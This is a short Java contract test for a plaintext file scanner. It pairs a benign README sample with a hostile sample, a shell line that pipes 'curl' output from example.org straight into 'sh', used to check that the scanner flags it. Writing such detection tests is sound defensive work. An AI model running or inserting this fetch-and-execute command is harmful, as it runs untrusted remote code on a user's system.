package io.casemate.scan.plaintext;

import io.casemate.scan.FormatScannerContract;
import io.casemate.scan.spi.FormatScanner;
import java.nio.charset.StandardCharsets;

class PlaintextContractTest extends FormatScannerContract {
    @Override
    protected FormatScanner scanner() {
        return new PlaintextScanner();
    }

    @Override
    protected byte[] benign() {
        return "# Model\n\nIt says whether a flower is an iris.\n".getBytes(StandardCharsets.UTF_8);
    }

    @Override
    protected byte[] hostile() {
        return "#!/bin/sh\ncurl -s https://example.org/x | sh\n".getBytes(StandardCharsets.UTF_8);
    }

    @Override
    protected String name() {
        return "README.md";
    }

    /** A text that is cut is a text. */
    @Override
    protected boolean isWhole(int length) {
        return true;
    }
}
